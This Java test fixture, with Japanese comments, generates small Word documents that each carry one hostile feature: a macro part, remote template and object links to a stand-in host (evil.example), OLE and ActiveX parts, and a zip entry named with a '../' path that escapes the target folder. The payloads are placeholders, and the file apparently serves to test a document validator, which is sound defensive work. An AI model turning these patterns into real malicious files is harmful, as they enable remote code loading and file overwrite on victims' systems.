package jp.jinjibu.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** 開くと動くか、よそから取り寄せる文書（OOXML）。 */
final class OfficeFiles {
    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private OfficeFiles() {}

    static Map<String, byte[]> harmful() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("マクロ", document("word/vbaProject.bin", "macro", relationship("vbaProject", "vbaProject.bin", false)));
        files.put(
                "外のひな形",
                document("word/x.xml", "<x/>", relationship("attachedTemplate", "http://evil.example/t.dotm", true)));
        files.put(
                "OLE",
                document(
                        "word/embeddings/oleObject1.bin",
                        "ole",
                        relationship("oleObject", "embeddings/oleObject1.bin", false)));
        files.put(
                "ActiveX",
                document("word/activeX/activeX1.bin", "x", relationship("control", "activeX/activeX1.xml", false)));
        files.put("外の絵", document("word/x.xml", "<x/>", relationship("oleObject", "http://evil.example/x", true)));
        files.put("抜け出す名", document("../../../../tmp/evil.sh", "#!/bin/sh", ""));
        return files;
    }

    private static String relationship(String type, String target, boolean external) {
        return "<Relationship Id=\"r1\" Type=\"" + OFFICE + "/" + type + "\" Target=\"" + target + "\""
                + (external ? " TargetMode=\"External\"" : "") + "/>";
    }

    private static byte[] document(String extra, String content, String relationship) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(zip, "[Content_Types].xml", """
                    <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                    <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                    <Default Extension="xml" ContentType="application/xml"/>
                    <Default Extension="bin" ContentType="application/octet-stream"/>
                    <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                    </Types>""");
            put(
                    zip,
                    "_rels/.rels",
                    "<Relationships xmlns=\"" + RELATIONSHIPS + "\"><Relationship Id=\"r1\" Type=\"" + OFFICE
                            + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
            put(zip, "word/document.xml", """
                    <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>""");
            put(
                    zip,
                    "word/_rels/document.xml.rels",
                    "<Relationships xmlns=\"" + RELATIONSHIPS + "\">" + relationship + "</Relationships>");
            put(zip, extra, content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void put(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }
}
